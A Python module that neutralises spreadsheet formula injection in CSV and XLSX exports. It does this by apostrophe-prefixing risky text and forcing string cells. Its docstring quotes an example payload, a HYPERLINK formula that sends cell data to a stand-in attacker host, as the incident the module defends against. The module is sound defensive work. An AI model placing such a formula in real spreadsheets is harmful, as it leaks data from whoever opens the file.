"""Spreadsheets we hand out (CSV and XLSX exports): nothing in them is evaluated.

Excel, WPS and LibreOffice evaluate a cell whose text starts with = + - or @, and a CSV cell led by
a tab or a carriage return before one of them: a staff name typed by a store manager as
`=HYPERLINK("https://evil.example/?"&B2,"查看")` became a live formula in the `staff.xlsx` a brand
admin downloaded (issue 21, "CSV injection" in OWASP's words). Every export writes its cells
through `cell_inert`, here and nowhere else:

- text that a spreadsheet would evaluate gets a leading apostrophe (OWASP's advice; the value is
  still all there to read);
- in XLSX, text is written as a string cell (type `s`) whatever it looks like, so no cell is a
  formula even if a caller skipped `cell_inert`;
- numbers stay numbers (a points adjustment of -50 is the number -50, not the text "'-50"), and so
  does text that is nothing but a number ("-12.5%", "+8613800000001"): a spreadsheet reads it as
  that number and there is no formula in it to run.
"""

import csv
import io
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# A signed decimal number, optionally a percentage: ASCII digits only (\d would take other scripts').
_NUMBER_TEXT = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?%?")
# Excel's sheet-name rules: at most 31 characters, none of []:*?/\
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")

CellValue = str | int | float | Decimal


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def cell_inert(value: Any) -> CellValue:
    """`value` as a cell that no spreadsheet evaluates (see the module docstring). None is an
    empty cell; numbers (bool, int, float, Decimal) are returned as they are; anything else
    becomes its text, with a leading apostrophe if that text would be evaluated."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal):
        return value
    text = str(value)
    if text.startswith(FORMULA_LEADS) and not _NUMBER_TEXT.fullmatch(text):
        return "'" + text
    return text


class InertCsvWriter:
    """`csv.writer` whose cells go through `cell_inert`."""

    def __init__(self, stream: _Writable) -> None:
        self._writer = csv.writer(stream)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([cell_inert(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: _Writable) -> InertCsvWriter:
    """A CSV writer on `stream` (a file, a StringIO, an HttpResponse). Writes the UTF-8 byte order
    mark first: Excel, which HQ and stores open these with, reads the Chinese text as UTF-8 only
    with it."""
    stream.write("\ufeff")
    return InertCsvWriter(stream)


def csv_bytes(rows: Iterable[Iterable[Any]]) -> bytes:
    """A whole CSV file (with the byte order mark) as bytes."""
    buffer = io.StringIO()
    csv_writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


def xlsx_bytes(*, title: str, rows: Iterable[Iterable[Any]]) -> bytes:
    """A one-sheet XLSX file. Text cells are inert and typed as strings; numbers are numbers."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_SHEET_TITLE_FORBIDDEN.sub("_", title)[:31] or "Sheet1")
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _xlsx_cell(sheet: Any, value: Any) -> Any:
    inert = cell_inert(value)
    if not isinstance(inert, str):
        return inert
    # XLSX cannot hold most control characters (openpyxl refuses the whole file); a name pasted
    # with one must not make the export fail.
    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("", inert))
    # openpyxl types text starting with "=" as a formula and "#N/A" as an error; ours is text.
    cell.data_type = "s"
    return cell
